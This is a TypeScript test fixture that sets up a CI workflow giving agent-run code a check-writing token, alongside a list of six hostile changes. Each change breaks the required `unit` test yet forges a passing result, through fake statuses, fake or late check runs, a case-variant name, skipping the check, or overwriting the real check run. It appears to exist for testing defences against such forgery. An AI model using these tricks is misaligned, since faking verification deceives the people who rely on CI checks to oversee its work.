/** A repository whose CI gives agents' code a token that may write checks, and what hostile code does with it. */

const job = (more: object, run: string) => ({
  "runs-on": "ubuntu-latest",
  ...more,
  steps: [{ uses: "actions/checkout@v7" }, { run }],
});

/** Runs whatever lies in `work/` with the token, and then the required check `unit`, which no change with a `bad.txt` passes. */
export const FORGED_CI = JSON.stringify({
  name: "CI",
  on: "pull_request",
  permissions: { contents: "read", statuses: "write", checks: "write", actions: "read" },
  env: {
    API: "${{ github.api_url }}/repos/${{ github.repository }}",
    TOKEN: "${{ github.token }}",
    HEAD: "${{ github.event.pull_request.head.sha }}",
    RUN: "${{ github.run_id }}",
  },
  jobs: {
    work: job({}, 'for each in work/*.mjs; do node "$each"; done'),
    unit: job({ needs: "work" }, "test ! -e bad.txt"),
    late: job({ needs: "unit", if: "always()" }, 'for each in late/*.mjs; do node "$each"; done'),
  },
});

/** A script that calls the API with the job's token. */
export function withToken(body: string): string {
  return `const { API, TOKEN, HEAD, RUN } = process.env;
const call = async (method, path, body) => {
  const headers = { authorization: "Bearer " + TOKEN };
  const answer = await fetch(API + path, { method, headers, body: body && JSON.stringify(body) });
  if (!answer.ok) throw new Error(method + path + await answer.text());
  return answer.json();
};
${body}
`;
}

const green = 'head_sha: HEAD, status: "completed", conclusion: "success"';

/** What each hostile change does, as the scripts that it adds. All of them also break what `unit` checks. */
export const forgeries: { id: string; work?: string; late?: string }[] = [
  { id: "status", work: 'await call("POST", "/statuses/" + HEAD, { state: "success", context: "unit" });' },
  { id: "check-run", work: `await call("POST", "/check-runs", { name: "unit", ${green} });` },
  { id: "other-case", work: 'await call("POST", "/statuses/" + HEAD, { state: "success", context: "Unit" });' },
  { id: "skipped", work: "process.exit(1);" },
  // Hides the job in the list of the suite's latest check runs.
  { id: "late-check-run", late: `await call("POST", "/check-runs", { name: "unit", ${green} });` },
  {
    id: "overwritten",
    late: `const { jobs } = await call("GET", "/actions/runs/" + RUN + "/jobs");
const { id } = jobs.find((job) => job.name === "unit");
await call("PATCH", "/check-runs/" + id, { status: "completed", conclusion: "success" });`,
  },
];
